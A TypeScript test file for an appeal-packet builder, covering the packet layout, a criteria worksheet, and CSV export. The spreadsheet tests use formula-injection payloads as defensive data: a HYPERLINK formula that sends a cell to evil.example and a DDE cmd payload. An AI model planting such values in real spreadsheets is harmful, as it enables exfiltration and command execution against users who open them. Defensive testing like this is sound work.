/** The packet, the worksheet as a table, and the worksheet as a spreadsheet. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csv } from '../../src/browser/paper.ts';
import type { CaseData } from '../../src/letters/case.ts';
import { needsBlocks, packet, progress, worksheetBlocks, worksheetRows } from '../../src/letters/packet.ts';
import type { Block } from '../../src/letters/tree.ts';
import { HOSTILE_VALUES } from '../support/hostile-letters.ts';
import { draft, textOf } from '../support/letters.ts';

const data: CaseData = {
  payer: { id: 'acme', name: 'Acme' },
  therapy: { id: 'drug', name: 'Drug', full: 'Drug (drugumab)', condition: 'sampleitis', test: false },
  plans: ['job'],
  policy: { title: 'Policy of Drug (D-1)', date: 'May 1, 2026', scope: 'All.' },
  groups: [
    { name: 'Sampleitis', criteria: [1, 2, 3].map((n) => ({ id: `s-${n}`, n: String(n), text: `Criterion ${n}.`, shows: n === 3 ? '' : `Record ${n}.`, ways: n === 2 ? ['Way A.', 'Way B.'] : [] })) },
    { name: 'Sampleitis: to continue', criteria: [{ id: 's-continue-1', n: '1', text: 'Goes on well.', shows: 'A note.', ways: [] }] },
  ],
  support: [],
  evidence: [],
  reasons: [],
  contacts: [],
};
const general: CaseData = { ...data, general: true, groups: [{ name: 'What to gather', criteria: ['Note.', 'Scan.', 'Result.'].map((text, n) => ({ id: `s-${n + 1}`, n: String(n + 1), text, shows: '', ways: [] })) }] };
delete general.policy;

const rows = { 's-1': { status: 'met' as const, where: 'Note', date: '2026-05-03' }, 's-2': { status: 'unmet' as const }, 's-3': { status: 'missing' as const, date: '2026-02-30' } };
const letter: Block[] = [{ kind: 'heading', runs: [{ text: 'Why' }] }, { kind: 'paragraph', runs: [{ text: 'ZZLETTER.' }] }];
const entered = { planAddress: 'Box 1\n\nTown', signerName: 'Ann Sample', signerPlace: 'Road 2\nTown', claimNumber: 'C-7', denialDate: '2026-11-02', enclosures: 'Photo' };
const made = (changes: Partial<Parameters<typeof packet>[0]> = {}) => packet({ title: 'Internal appeal', letter, dates: 'Dates.\n\nFile by May 1, 2027', data, draft: draft({ rows, entered }), missing: ['Diagnosis'], ...changes });
const headings = (blocks: Block[]) => blocks.flatMap((block) => (block.kind === 'heading' ? [textOf([block])] : []));

const KEEP = 'Yours to keep: do not send what follows';

describe('the packet', () => {
  test('holds what to send (cover, letter, exhibits), then what to keep: worksheet, what is needed, dates, how to send, log and what is next', () => {
    expect(headings(made())).toEqual(['Cover', 'Why', 'Exhibits', KEEP, 'Worksheet: Drug (drugumab), Acme', 'Needs from you', 'Dates', 'How to send it', 'Log of calls', 'What happens next']);
  });

  test('begins a new sheet for each part that stands alone', () => {
    const blocks = made();
    const after = blocks.flatMap((block, index) => (block.kind === 'page' ? [textOf(blocks.slice(index + 1, index + 2))] : []));
    expect(after).toEqual(['Why', 'Exhibits', KEEP, 'Dates', 'How to send it']);
    expect(blocks.at(-1)!.kind).not.toBe('page');
  });

  test('has a cover that says to whom, from whom, about what, and nothing that was not entered', () => {
    const cover = textOf(made().slice(1, 2));
    expect(cover.split('\n').slice(0, 4)).toEqual(['To: Acme, Box 1, Town', 'From: Ann Sample, Road 2, Town', 'About: Internal appeal', 'Reference: C-7']);
    const bare = textOf(made({ draft: draft() }).slice(1, 2));
    expect(bare).not.toMatch(/Reference|undefined|, ,/);
  });

  test('holds the letter as it is', () => {
    const blocks = made();
    const at = blocks.indexOf(letter[0]!);
    expect(blocks.slice(at, at + letter.length)).toEqual(letter);
  });

  test('without exhibits, dates or criteria has no empty part for them', () => {
    const bare = made({ dates: '', draft: draft(), missing: [], data: { ...data, groups: [] } });
    expect(headings(bare)).toEqual(['Cover', 'Why', KEEP, 'How to send it', 'Log of calls', 'What happens next']);
    for (const [index, block] of bare.entries()) if (block.kind === 'page') expect(bare[index + 1]?.kind).not.toBe('page');
  });

  test('lists exhibits by the letters that the letter gives them', () => {
    expect(textOf(made())).toContain('Exhibit A: Denial of November 2, 2026\nExhibit B: Note\nExhibit C: Photo');
  });
});

describe('the worksheet', () => {
  test('has a row for each criterion, with ways to meet it, and only days that are days', () => {
    expect(worksheetRows(data, rows).rows).toEqual([
      ['Sampleitis 1', 'Criterion 1.', 'Record 1.', 'Note', 'May 3, 2026', 'Met'],
      ['Sampleitis 2', 'Criterion 2.\nor: Way A.\nor: Way B.', 'Record 2.', '', '', 'Not met'],
      ['Sampleitis 3', 'Criterion 3.', '', '', '', 'Record missing'],
      ['Sampleitis: to continue 1', 'Goes on well.', 'A note.', '', '', ''],
    ]);
    for (const row of worksheetRows(data, {}).rows) expect(row.length).toBe(worksheetRows(data, {}).head.length);
  });

  test('of a case without a policy on file is never called the payer’s criteria or policy', () => {
    const text = textOf([...worksheetBlocks(general, draft({ rows })), ...needsBlocks(general, draft({ rows }), [])]);
    expect(text).toContain('No criteria of this payer are on file');
    expect(text.replace('No criteria of this payer are on file', '').replace(/Ask the payer for its criteria in writing\.?/, '')).not.toMatch(/polic(y|ies) asks|the policy|Policy:|criteri(on|a) \d|payer’s criteria/i);
  });

  test('counts what was looked at and what is met', () => {
    expect(progress(data, rows)).toEqual({ done: 3, of: 4, met: 1 });
    expect(progress(data, { gone: { status: 'met' } })).toEqual({ done: 0, of: 4, met: 0 });
  });

  test('asks for what is not met or missing, and for nothing if all is there', () => {
    expect(textOf(needsBlocks(data, draft({ rows }), ['Diagnosis']))).toBe('Needs from you\nCriterion 2 (Sampleitis), not met so far: Criterion 2. Way A; or: Way B. What would show it: Record 2.\nCriterion 3 (Sampleitis), missing: Criterion 3.\nFor the letter: Diagnosis');
    expect(needsBlocks(data, draft(), [])).toEqual([]);
  });

  test('without rows is none', () => {
    expect(worksheetBlocks({ ...data, groups: [] }, draft())).toEqual([]);
  });
});

/** Cells of a CSV file as a spreadsheet reads them. */
function cells(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, end] of text.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(quoted!.replaceAll('""', '"'));
    if (end !== ',') {
      out.push(row);
      row = [];
    }
  }
  return out;
}

describe('the spreadsheet', () => {
  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0"])('keeps %j as text, not as a formula', (value) => {
    expect(cells(csv([[value]]))).toEqual([[`'${value}`]]);
  });

  test('keeps all else as it is, with quotes, commas and line ends', () => {
    const all = ['a "b", c', 'two\nlines', '', 'x=1', ...HOSTILE_VALUES.filter((one) => !/^[=+\-@\t\r]/.test(one))];
    expect(cells(csv([all, all]))).toEqual([all, all]);
    expect(csv([['a']])).toBe('\ufeff"a"\r\n');
  });

  test('has no cell that a spreadsheet would count with, whatever is entered', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (table) => {
        const read = cells(csv(table));
        expect(read.map((row) => row.length)).toEqual(table.map((row) => row.length));
        for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
